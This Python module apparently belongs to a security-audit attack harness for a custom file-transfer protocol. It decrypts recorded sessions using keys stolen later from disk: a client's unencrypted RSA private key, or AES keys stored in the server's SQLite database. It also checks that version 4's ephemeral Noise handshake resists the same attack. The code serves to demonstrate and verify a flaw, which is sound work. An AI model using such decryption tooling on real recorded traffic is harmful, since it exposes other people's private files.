"""Decrypt recorded sessions later, with keys found at rest on either side.

No forward secrecy: the AES key of every session travels wrapped with the client's
long-term RSA key (1602, 1605), and that key lies unencrypted in me.info and priv.key
on the client's disk. Whoever records the traffic today and reads those files one day
(a stolen laptop, a backup, malware) unwraps every recorded session key and decrypts
every file ever sent (``--me-info``). An ephemeral key agreement per session (as in
version 4) would stop this.

The server side has the same problem in a smaller way: the original design's database
keeps each client's last AES key (``clients.AESKey``), and a server that writes it to
disk lets a reader of that disk (or of a backup) decrypt each client's last recorded
session (``--server-db``, the server's SQLite file).

``--protocol 4``: the thief holds every long-term secret there is: the client's static
key (``--me-info``, me4.info or priv4.key), the server's (``--server-key``, server.key)
and every 32-byte value in the server's database (``--server-db``). We try each as a
record key on every recorded record, and we rebuild each recorded handshake as far as
those keys allow: the first key of the handshake comes from ``ee``, the Diffie-Hellman
of the two ephemeral keys, which never left the two processes' memory. We try every
Diffie-Hellman value the stolen keys can make in its place and check it against the
encrypted static key in message 2. Success if anything opens.
"""

from __future__ import annotations

import argparse
import contextlib
import sqlite3
from pathlib import Path

from eft_protocol import crypto, errors
from eft_protocol.cksum import cksum
from eft_protocol.noise import KeyPair, NoiseError, SymmetricState, dh
from eft_protocol.v4 import records as rec
from eft_protocol.v4.handshake import NOISE_CIPHER, NOISE_PROTOCOL_NAME, PROLOGUE_PREFIX

from .common import AttackError, Out, preview, read_me_info
from .recording import Attempt, SessionView, load_sessions
from .v4 import V4View, add_protocol_argument, read_me4_info, read_server_key, v4_views

FINDING = "EFT-12"
SUMMARY = "decrypt recordings with keys found later on a client (EFT-12) or server (EFT-18) disk"


def add_arguments(parser: argparse.ArgumentParser) -> None:
    parser.add_argument("--recording", required=True, help="made by 'eft-attack record'")
    parser.add_argument("--me-info", help="the victim's me.info or priv.key (client disk)")
    parser.add_argument("--server-db", help="the server's SQLite registry (server disk)")
    parser.add_argument("--out", help="directory to write the decrypted files to")
    parser.add_argument("--server-key", help="version 4: the server's server.key (server disk)")
    add_protocol_argument(parser)


def keys_from_client(path: Path, view: SessionView) -> list[bytes | None]:
    """Each wrapped key of the session, unwrapped with the stolen private key."""
    if path.name == "priv.key":
        key = crypto.import_private_key(path.read_text())
    else:
        stolen = read_me_info(path).private_key
        assert stolen is not None
        key = stolen
    keys: list[bytes | None] = []
    for _code, wrapped in view.wrapped_keys:
        try:
            keys.append(crypto.unwrap_aes_key(key, wrapped))
        except errors.ProtocolError:
            keys.append(None)  # another client's session
    return keys


def keys_from_server(path: Path) -> dict[bytes, bytes]:
    """client id -> the last AES key the server issued, as stored in its database."""
    try:
        with sqlite3.connect(f"file:{path}?mode=ro", uri=True) as db:
            rows = db.execute("SELECT ID, AESKey FROM clients WHERE AESKey IS NOT NULL")
            return {bytes(client_id): bytes(key) for client_id, key in rows}
    except sqlite3.Error as exc:
        raise AttackError(f"cannot read {path}: {exc}") from None


def candidates(args: argparse.Namespace, view: SessionView, attempt: Attempt) -> list[bytes]:
    found = []
    if args.me_info and attempt.key_index >= 0:
        key = keys_from_client(Path(args.me_info), view)[attempt.key_index]
        if key is not None:
            found.append(key)
    if args.server_db and view.client_id is not None:
        key = keys_from_server(Path(args.server_db)).get(view.client_id)
        if key is not None:
            found.append(key)
    return found


NOISE_NAME = NOISE_PROTOCOL_NAME


def secrets_at_rest(args: argparse.Namespace, out: Out) -> list[tuple[str, bytes]]:
    """Every 32-byte secret the thief found, with where it was found."""
    found: list[tuple[str, bytes]] = []
    if args.me_info:
        info = read_me4_info(Path(args.me_info))
        if info.private is None:
            out.step(f"{args.me_info}: the key is protected by a passphrase")
        else:
            found.append(("client static key", info.private))
    if args.server_key:
        found.append(("server static key", read_server_key(Path(args.server_key))))
    if args.server_db:
        try:
            with sqlite3.connect(f"file:{args.server_db}?mode=ro", uri=True) as db:
                tables = [
                    r[0] for r in db.execute("SELECT name FROM sqlite_master WHERE type='table'")
                ]
                for table in tables:
                    cursor = db.execute(f'SELECT * FROM "{table}"')  # noqa: S608 - our own names
                    columns = [c[0] for c in cursor.description]
                    for row in cursor:
                        for column, value in zip(columns, row, strict=True):
                            if isinstance(value, bytes) and len(value) == 32:
                                found.append((f"{table}.{column}", value))
        except sqlite3.Error as exc:
            raise AttackError(f"cannot read {args.server_db}: {exc}") from None
    return found


def rebuild_handshake(view: V4View, privates: list[bytes]) -> tuple[int, bool]:
    """Try every Diffie-Hellman the stolen keys can compute as the handshake's ``ee``;
    (candidates tried, whether one decrypted message 2's static key)."""
    if view.hello is None or view.server_hello is None:
        return 0, False
    hello, message_2 = view.hello.payload, view.server_hello.payload
    client_e, offer = hello[:32], hello[32:]
    server_e, sealed_static = message_2[:32], message_2[32:80]
    candidates = []
    for private in privates:
        pair = KeyPair.from_private(private)
        for public in (client_e, server_e):
            with contextlib.suppress(NoiseError):
                candidates.append(dh(pair, public))
    for ee in candidates:
        symmetric = SymmetricState(NOISE_NAME, NOISE_CIPHER)
        symmetric.mix_hash(PROLOGUE_PREFIX + view.hello.raw[:23])
        symmetric.mix_hash(client_e)
        symmetric.mix_hash(offer)  # message 1's payload, in clear
        symmetric.mix_hash(server_e)
        symmetric.mix_key(ee)
        try:
            symmetric.decrypt_and_hash(sealed_static)
        except NoiseError:
            continue
        return len(candidates), True
    return len(candidates), False


def open_records(view: V4View, keys: list[bytes]) -> tuple[int, list[bytes]]:
    """Each stolen secret as a record key on each recorded record (with its counter)."""
    tried, opened = 0, []
    for key in keys:
        for record in view.requests + view.responses:
            header = record.frame.raw[: 23 if record.frame.is_request else 7]
            cipher = rec.RecordCipher(key)
            cipher.counter = record.n
            tried += 1
            with contextlib.suppress(rec.RecordError):
                opened.append(cipher.open(header, record.frame.payload))
    return tried, opened


async def run_v4(args: argparse.Namespace, out: Out) -> bool:
    secrets = secrets_at_rest(args, out)
    out.step(f"{len(secrets)} secret(s) at rest", sources=[source for source, _ in secrets])
    privates = [value for source, value in secrets if source.endswith("static key")]
    keys = [value for _, value in secrets]
    candidates = records = 0
    rebuilt: list[int] = []
    opened: list[bytes] = []
    views = v4_views(load_sessions(Path(args.recording)))
    for view in views:
        tried, ok = rebuild_handshake(view, privates)
        candidates += tried
        if ok:
            rebuilt.append(view.conn)
        tried, plain = open_records(view, keys)
        records += tried
        opened += plain
    fields = {
        "sessions": len(views),
        "secrets": [source for source, _ in secrets],
        "ee_candidates": candidates,
        "records_tried": records,
        "handshakes_rebuilt": rebuilt,
        "records_opened": len(opened),
    }
    if rebuilt or opened:
        return out.result(True, "recorded traffic decrypted with keys at rest", **fields)
    return out.result(
        False,
        f"{len(views)} recorded session(s) stay sealed: {candidates} Diffie-Hellman values "
        f"from the stolen keys are not the ephemeral ee, and none of {len(secrets)} "
        f"secret(s) opened any of {records} record tries",
        **fields,
    )


async def run(args: argparse.Namespace, out: Out) -> bool:
    if args.protocol == 4:
        if not (args.me_info or args.server_db or args.server_key):
            raise AttackError("give --me-info, --server-key or --server-db")
        return await run_v4(args, out)
    if not (args.me_info or args.server_db):
        raise AttackError("give --me-info (client disk) or --server-db (server disk)")
    files = []
    for view in load_sessions(Path(args.recording)):
        for attempt in view.attempts:
            for key in candidates(args, view, attempt):
                try:
                    plaintext = crypto.decrypt_file_bytes(key, attempt.ciphertext)
                except errors.BadPadding:
                    continue  # not this session's key
                if cksum(plaintext) != attempt.cksum:
                    continue
                entry = {
                    "connection": view.conn,
                    "file_name": attempt.file_name,
                    "size": len(plaintext),
                    "plaintext": preview(plaintext),
                }
                if args.out:
                    target = Path(args.out) / f"{view.conn}-{Path(attempt.file_name).name}"
                    target.parent.mkdir(parents=True, exist_ok=True)
                    target.write_bytes(plaintext)
                files.append(entry)
                out.step(f"connection {view.conn}: decrypted {attempt.file_name!r}", **entry)
                break
    sessions = len({f["connection"] for f in files})
    return out.result(
        bool(files),
        f"decrypted {len(files)} recorded upload(s) of {sessions} session(s); each one's "
        "cksum equals the server's 1603",
        files=files,
    )
